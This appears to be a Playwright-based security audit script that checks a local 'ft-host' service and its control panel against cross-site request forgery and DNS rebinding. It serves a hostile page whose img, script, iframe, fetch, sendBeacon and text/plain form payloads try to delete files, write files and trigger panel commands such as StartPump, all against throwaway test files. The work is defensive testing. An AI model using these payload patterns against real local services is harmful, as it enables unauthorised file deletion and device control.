// F1, F2, F12 in real Chromium: pages of other sites (localhost:X = cross-site, 127.0.0.1:Y =
// same-site, evil.example mapped to 127.0.0.1 = DNS rebinding) attack ft-host and its panel.
import fs from 'node:fs'; import http from 'node:http'; import os from 'node:os'; import path from 'node:path';
import { spawn } from 'node:child_process'; import net from 'node:net';
import { chromium } from 'playwright-core';
const root = path.resolve(path.dirname(new URL(import.meta.url).pathname), '..', '..');
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const freePort = () => new Promise((r) => { const s = net.createServer(); s.listen(0, '127.0.0.1', () => { const p = s.address().port; s.close(() => r(p)); }); });
const work = fs.mkdtempSync(path.join(os.tmpdir(), 'ft-audit-br-'));
fs.cpSync(path.join(root, 'examples/demo'), path.join(work, 'demo'), { recursive: true });
const atws = path.join(work, 'demo/gui/ApplicationData/ATWS'); fs.mkdirSync(atws, { recursive: true });
const port = await freePort(), cport = await freePort();
const logFile = path.join(work, 'host.log');
const host = spawn(path.join(root, 'build/bin/ft-host'), ['--data', path.join(work, 'demo/demo.xml'), '--port', String(port),
  '--control-port', String(cport), '--log-file', logFile, '--log-level', 'info'], { stdio: ['ignore', fs.openSync(path.join(work, 'stdout'), 'w'), fs.openSync(path.join(work, 'stderr'), 'w')] });
for (let i = 0; i < 200 && !fs.readFileSync(path.join(work, 'stdout'), 'utf8').includes('control panel'); i++) await sleep(50);
process.on('exit', () => host.kill('SIGTERM'));
const log = () => fs.readFileSync(logFile, 'utf8');
const ft = `http://127.0.0.1:${port}`, panel = `http://127.0.0.1:${cport}`;
const lengths = [100, 1000, 8000, 65416, 65536 - 300, 65536 - 40, 65536, 65600, 131072 - 300, 131072, 200000, 500000, 1048576 - 3000];
const pad = (url, L) => url + '&pad=' + 'a'.repeat(Math.max(0, L - url.length - 40));
const files = [];
function victim(tag) { const n = `b_${tag}.txt`; fs.writeFileSync(path.join(atws, n), 'x'); files.push(n); return n; }
let html = '';
for (const L of lengths) {
  html += `<img src="${pad(`${ft}/deleteFile?name=${victim('img' + L)}`, L)}">\n`;
  html += `<script src="${pad(`${ft}/deleteFile?name=${victim('scr' + L)}`, L)}"></script>\n`;
  html += `<link rel=stylesheet href="${pad(`${ft}/deleteFile?name=${victim('css' + L)}`, L)}">\n`;
  html += `<iframe src="${pad(`${ft}/deleteFile?name=${victim('ifr' + L)}`, L)}"></iframe>\n`;
  html += `<img src="${pad(`${ft}/writeFile?name=${'w' + L}.txt&content=EVIL`, L)}">\n`;
  html += `<img src="${pad(`${ft}/ENDFT?x=1`, L)}">\n`;
}
html += `<img src="${ft}/ENDFT"><img src="${ft}/sendQuery?ecu=DEMO&query=Calibrate"><img src="${ft}/sendQuery?ecu=DEMO&query=StartPump">`;
html += `<script>
 fetch('${ft}/deleteFile?name=${victim('fetch')}', {mode:'no-cors'});
 fetch('${ft}/deleteFile?name=${victim('fetchpost')}', {mode:'no-cors', method:'POST', body:'x'});
 fetch('${panel}/api/command/StartPump', {method:'POST', mode:'no-cors', headers:{'Content-Type':'text/plain'}, body:'{"mode":"refuse","status":-14}'});
 fetch('${panel}/api/ecu', {method:'POST', mode:'no-cors', body:'{"mode":"refuse","status":-14}'});
 fetch('${panel}/api/reset', {method:'POST', mode:'no-cors'});
 fetch('${panel}/api/state/PumpState', {method:'POST', mode:'no-cors', headers:{'Content-Type':'application/x-www-form-urlencoded'}, body:'{"value":1}'});
 navigator.sendBeacon('${panel}/api/command/StopPump', new Blob(['{"value":9}'], {type:'text/plain'}));
</script>
<form id=f method=POST enctype=text/plain target=sink action="${panel}/api/command/SelfTest"><input name='{"value":5,"x":"' value='"}'></form>
<form id=g method=POST target=sink2 action="${ft}/deleteFile?name=${victim('form')}"><input name=a value=b></form>
<iframe name=sink></iframe><iframe name=sink2></iframe>
<script>setTimeout(()=>{document.getElementById('f').submit(); document.getElementById('g').submit();}, 100)</script>`;
const page = `<!doctype html><body>${html}`;
const foreign = http.createServer((req, res) => { res.writeHead(200, { 'Content-Type': 'text/html' }); res.end(page); });
await new Promise((r) => foreign.listen(0, '127.0.0.1', r));
const fport = foreign.address().port;
const ctx = await chromium.launchPersistentContext(path.join(work, 'profile'), { executablePath: '/usr/bin/chromium', headless: true,
  args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking',
         '--host-resolver-rules=MAP evil.example 127.0.0.1']});
const pg = await ctx.newPage();
const panelView = async () => { const v = await (await fetch(`${panel}/api/ecu`)).json();
  return { answer: v.answer, commands: v.commands.map((c) => [c.name, c.value, c.changed, JSON.stringify(c.answer)]),
           items: v.items.filter((i) => i.changed || i.answer?.mode !== 'normal').map((i) => i.name), rawFrames: v.rawFrames.map((r) => r.response), reloads: v.reloads }; };
const before = JSON.stringify(await panelView());
for (const origin of [`http://localhost:${fport}/`, `http://127.0.0.1:${fport}/`, `http://evil.example:${fport}/`]) {
  for (const n of files) fs.writeFileSync(path.join(atws, n), 'x');
  const ev0 = (log().match(/received event 669/g) || []).length;
  await pg.goto(origin, { waitUntil: 'commit' }); await sleep(5000);
  const gone = files.filter((n) => !fs.existsSync(path.join(atws, n)));
  const written = fs.readdirSync(atws).filter((n) => /^w\d+\.txt$/.test(n));
  const ev = (log().match(/received event 669/g) || []).length - ev0;
  const after = JSON.stringify(await panelView());
  console.log(`${origin}: deleted ${gone.length}/${files.length} ${gone.join(',')}; written ${written.length}; events669 ${ev}; panel changed ${after !== before} ${after !== before ? after : ''}`);
}
// DNS rebinding: the page's own origin is evil.example:<panel port>, reading the panel.
for (const u of [`http://evil.example:${cport}/api/ecu`, `http://evil.example:${cport}/api/log`, `http://evil.example:${cport}/`]) {
  const r = await pg.goto(u); console.log('rebinding', u.replace(/:\d+/, ':P'), r.status(), (await r.text()).slice(0, 60));
}
let r2s = 'error'; try { r2s = (await pg.goto(`http://evil.example:${port}/deleteFile?name=${victim('rebind')}`)).status(); } catch (e) { r2s = e.message.slice(0, 50); }
console.log('rebinding FT deleteFile:', r2s, fs.existsSync(path.join(atws, 'b_rebind.txt')) ? 'kept' : 'DELETED');
// Honest use: the demo page from its own origin, then writeFile/readFile/deleteFile from it.
await pg.close(); const pg2 = await ctx.newPage();
const errors = []; pg2.on('console', (m) => { if (m.type() === 'error') errors.push(m.text()); });
const failedReq = []; pg2.on('requestfailed', (r) => failedReq.push(r.url().slice(0, 80)));
await pg2.goto(`${ft}/FT?gui=demo&mw=demo&flow=demo`); await pg2.waitForLoadState('load'); await sleep(6000);
const text = (await pg2.textContent('body')).replace(/\s+/g, ' ');
console.log('demo page: console errors', errors.length, errors.slice(0, 3), 'failed requests', failedReq, 'body:', text.slice(0, 400));
await pg2.screenshot({ path: path.join(root, 'audit', 'demo.png'), fullPage: true });
const own = await pg2.evaluate(async (ft) => {
  const t = async (u) => (await fetch(ft + u)).text();
  const w = await t('/writeFile?name=own.txt&content=hello%20world');
  const r = await t('/readFile?name=own.txt');
  const d = await t('/deleteFile?name=own.txt');
  const r2 = await t('/readFile?name=own.txt');
  return { w, r, d, r2 };
}, ft);
console.log('own origin write/read/delete/read:', JSON.stringify(own));
await ctx.close(); foreign.close();
host.kill('SIGTERM'); const code = await new Promise((r) => host.on('exit', (c, s) => r([c, s])));
console.log('host exit', code, 'warnings', (log().match(/\[warning\]/g) || []).length);
